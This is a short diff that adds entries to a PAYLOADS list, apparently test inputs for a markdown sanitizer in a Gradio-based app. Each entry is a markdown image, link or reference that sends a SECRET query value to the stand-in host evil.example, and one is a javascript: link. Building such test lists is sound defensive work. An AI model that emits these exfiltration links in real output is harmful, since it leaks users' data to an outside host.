@@ -10,6 +10,8 @@ PAYLOADS = [
     "![a](http://evil.example/?q=SECRET)",
     "![a](/gradio_api/file=http://evil.example/?q=SECRET)",
     "![a][1]\n\n[1]: http://evil.example/?q=SECRET",
+    "[1](http://evil.example/?q=SECRET) ![1](http://evil.example/i)",
+    "[1]: http://evil.example/?q=SECRET 'title'",
     "[click](http://evil.example/?q=SECRET)",
     "[click](javascript:window.PWNED=1)",
     "<http://evil.example/?q=SECRET>",
